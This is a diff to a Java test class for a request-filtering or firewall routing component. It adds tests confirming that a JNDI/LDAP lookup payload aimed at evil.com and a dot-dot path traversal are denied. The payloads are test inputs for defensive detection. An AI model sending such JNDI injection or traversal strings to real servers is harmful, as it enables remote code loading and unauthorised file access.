@@ -101,7 +101,24 @@ class RoutingPathMatchingTest {
         Decision decision = get(DEFAULTS, "/t/..;%24%7Bjndi:ldap:%2F%2Fevil.com%2Fa%7D/y");
 
         assertThat(decision.blockType()).isEqualTo(BlockType.DENY);
-        assertThat(decision.findings().get(0).location()).isEqualTo(Location.value(Source.PATH_PARAMETER, "1"));
+        assertThat(decision.findings()).anySatisfy(
+                finding -> assertThat(finding.location()).isEqualTo(Location.value(Source.PATH_PARAMETER, "1")));
+    }
+
+    @Test
+    void blocksJndiLookupWhoseSlashesCutItAcrossSegments() {
+        Decision decision = get(DEFAULTS, "/t/..;$%7Bjndi:ldap://evil.com/a%7D/y");
+
+        assertThat(decision.blockType()).isEqualTo(BlockType.DENY);
+        assertThat(decision.findings().get(0).ruleKey()).isEqualTo("JAVA");
+    }
+
+    @Test
+    void blocksDotDotInThePathAsSentBeforeCallingItSuspicious() {
+        Decision decision = get(DEFAULTS, "/files//../b");
+
+        assertThat(decision.status()).isEqualTo(403);
+        assertThat(decision.findings().get(0).ruleKey()).isEqualTo("PATH");
     }
 
     @Test
@@ -119,7 +136,6 @@ class RoutingPathMatchingTest {
             {"/files/a%5Cb", "MALFORMED-PATH-BACKSLASH"},
             {"/files/.;x/b", "MALFORMED-PATH-DOT-SEGMENT-WITH-PARAMETERS"},
             {"/files/%2e/b", "MALFORMED-PATH-ENCODED-DOT-SEGMENT"},
-            {"/files//../b", "MALFORMED-PATH-DOT-DOT-AFTER-EMPTY-SEGMENT"},
         };
         for (String[] c : cases) {
             Decision decision = get(DEFAULTS, c[0]);
